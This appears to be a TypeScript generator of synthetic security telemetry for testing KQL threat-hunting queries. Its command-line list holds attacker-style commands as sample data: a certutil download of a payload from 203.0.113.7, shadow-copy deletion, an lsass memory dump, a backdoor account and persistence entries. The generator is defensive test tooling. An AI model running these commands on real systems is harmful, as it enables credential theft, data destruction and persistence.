/**
 * A small deterministic data generator for any schema: a few hundred rows per table with values
 * chosen from the column name (FileName → powershell.exe, ProcessCommandLine with `-enc`,
 * RemoteIP, AccountUpn …) so that typical hunting filters match something. Used by the corpus
 * runner and tests; the emulator's story-telling generator is separate.
 */
import type { KqlSchema } from './schema.js'
import type { Column, Table } from './types.js'

/** Small seeded PRNG (mulberry32): the same seed gives the same data on every run. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}
function seedOf(s: string): number {
  let h = 2166136261
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 16777619)
  return h >>> 0
}

const FILES = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'mshta.exe', 'regsvr32.exe', 'wmic.exe', 'certutil.exe', 'svchost.exe', 'explorer.exe', 'winword.exe', 'excel.exe', 'bitsadmin.exe', 'schtasks.exe', 'net.exe', 'whoami.exe', 'lsass.exe', 'msiexec.exe', 'cscript.exe', 'wscript.exe', 'python.exe', 'curl.exe', 'procdump.exe', 'vssadmin.exe', 'reg.exe', 'sc.exe']
const COMMANDS = [
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  'powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\Public\\run.ps1',
  'cmd.exe /c whoami /all',
  'rundll32.exe C:\\Windows\\Temp\\a.dll,DllRegisterServer',
  'certutil.exe -urlcache -split -f http://203.0.113.7/payload.exe C:\\Windows\\Temp\\p.exe',
  'vssadmin.exe delete shadows /all /quiet',
  'schtasks /create /tn Updater /tr C:\\ProgramData\\upd.exe /sc minute',
  'net user admin P@ssw0rd /add',
  'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y',
  'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
  'procdump.exe -ma lsass.exe lsass.dmp',
  'wmic process call create "cmd.exe /c ping 10.0.0.1"',
  '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.docm"',
  'svchost.exe -k netsvcs -p',
]
const DEVICES = ['ws-alice.contoso.com', 'ws-bob.contoso.com', 'srv-dc01.contoso.com', 'srv-sql02.contoso.com', 'laptop-carol.contoso.com']
const USERS = ['alice', 'bob', 'carol', 'dave', 'svc-backup']
const IPS = ['10.0.0.5', '10.0.1.17', '192.168.1.20', '203.0.113.7', '198.51.100.23', '52.96.10.4', '172.16.4.2', '8.8.8.8']
const URLS = ['https://login.microsoftonline.com/common', 'http://203.0.113.7/payload.exe', 'https://contoso.sharepoint.com/sites/x', 'https://pastebin.com/raw/abc', 'evil-domain.xyz']
const ACTIONS = ['ProcessCreated', 'ConnectionSuccess', 'ConnectionFailed', 'FileCreated', 'FileModified', 'FileRenamed', 'LogonSuccess', 'LogonFailed', 'RegistryValueSet', 'ImageLoaded', 'PowerShellCommand', 'AntivirusDetection', 'DnsQueryResponse', 'FileUploaded', 'Add member to role.']
const hex = (rnd: () => number, n: number): string => Array.from({ length: n }, () => Math.floor(rnd() * 16).toString(16)).join('')

function valueFor(col: Column, i: number, rnd: () => number, now: number): unknown {
  const n = col.name
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!
  switch (col.type) {
    case 'datetime':
      return now - Math.floor(rnd() * 7 * 86400000)
    case 'timespan':
      return Math.floor(rnd() * 3600000)
    case 'bool':
      return rnd() < 0.5
    case 'int':
    case 'long':
      if (/Port$/.test(n)) return pick([443, 80, 3389, 445, 22, 135, 5985, 4444])
      if (/Size$/.test(n)) return Math.floor(rnd() * 5_000_000)
      if (/Count$/.test(n)) return Math.floor(rnd() * 10)
      return Math.floor(rnd() * 100000)
    case 'real':
    case 'decimal':
      return Math.round(rnd() * 1000) / 10
    case 'guid':
      return `${hex(rnd, 8)}-${hex(rnd, 4)}-4${hex(rnd, 3)}-a${hex(rnd, 3)}-${hex(rnd, 12)}`
    case 'dynamic':
      return i % 3 === 0 ? [pick(USERS), pick(FILES)] : { Name: pick(USERS), Value: pick(FILES), Count: Math.floor(rnd() * 5) }
    default:
      break
  }
  if (/CommandLine$/.test(n)) return pick(COMMANDS)
  if (/FileName$/.test(n) || n === 'FileName') return pick(FILES)
  if (/FolderPath$/.test(n)) return `C:\\Windows\\System32\\${pick(FILES)}`
  if (/^SHA1$|SHA1$/.test(n)) return hex(rnd, 40)
  if (/SHA256$/.test(n)) return hex(rnd, 64)
  if (/MD5$/.test(n)) return hex(rnd, 32)
  if (/DeviceName$|ComputerName$|^Computer$/.test(n)) return pick(DEVICES)
  if (/DeviceId$/.test(n)) return `dev${DEVICES.indexOf(pick(DEVICES))}${'0'.repeat(37)}`
  if (/Upn$|UserPrincipalName$|EmailAddress$|Address$|^Recipient|^Sender/.test(n)) return `${pick(USERS)}@contoso.com`
  if (/AccountName$|UserName$/.test(n)) return pick(USERS)
  if (/Domain$/.test(n)) return pick(['contoso', 'CONTOSO', 'contoso.com'])
  if (/Sid$/.test(n)) return `S-1-5-21-1004336348-1177238915-682003330-${1000 + Math.floor(rnd() * 5)}`
  if (/IP$|IPAddress$|IPv4$/.test(n)) return pick(IPS)
  if (/Url$|Uri$|^Url/.test(n)) return pick(URLS)
  if (n === 'ActionType') return pick(ACTIONS)
  if (/AdditionalFields$|Fields$|Details$/.test(n)) return JSON.stringify({ Command: pick(['Invoke-WebRequest', 'Get-Process', 'IEX']), IsLocalLogon: rnd() < 0.5, Value: pick(FILES) })
  if (/ObjectId$|Id$/.test(n)) return `${hex(rnd, 8)}-${hex(rnd, 4)}-${hex(rnd, 4)}-${hex(rnd, 4)}-${hex(rnd, 12)}`
  if (/Subject$/.test(n)) return pick(['Invoice overdue', 'Password expiry', 'Meeting notes', 'Your parcel'])
  if (n === 'Application') return pick(['Microsoft Teams', 'Office 365 Exchange Online', 'Azure Portal'])
  if (n === 'Severity') return pick(['Low', 'Medium', 'High', 'Informational'])
  if (/Type$/.test(n)) return pick(['Public', 'Private', 'Interactive', 'Network', 'Unknown'])
  return `${n}_${i % 7}`
}

/** Generates `rows` deterministic rows for every table of `schema`, relative to `now` (ms). */
export function generateSampleTables(schema: KqlSchema, options: { rows?: number; now: number }): Map<string, Table> {
  const rows = options.rows ?? 200
  const out = new Map<string, Table>()
  for (const [name, columns] of schema) {
    const rnd = mulberry32(seedOf(name))
    const data = columns.map(() => new Array<unknown>(rows))
    for (let i = 0; i < rows; i++) columns.forEach((c, ci) => (data[ci]![i] = valueFor(c, i, rnd, options.now)))
    out.set(name, { columns, data, rowCount: rows })
  }
  return out
}
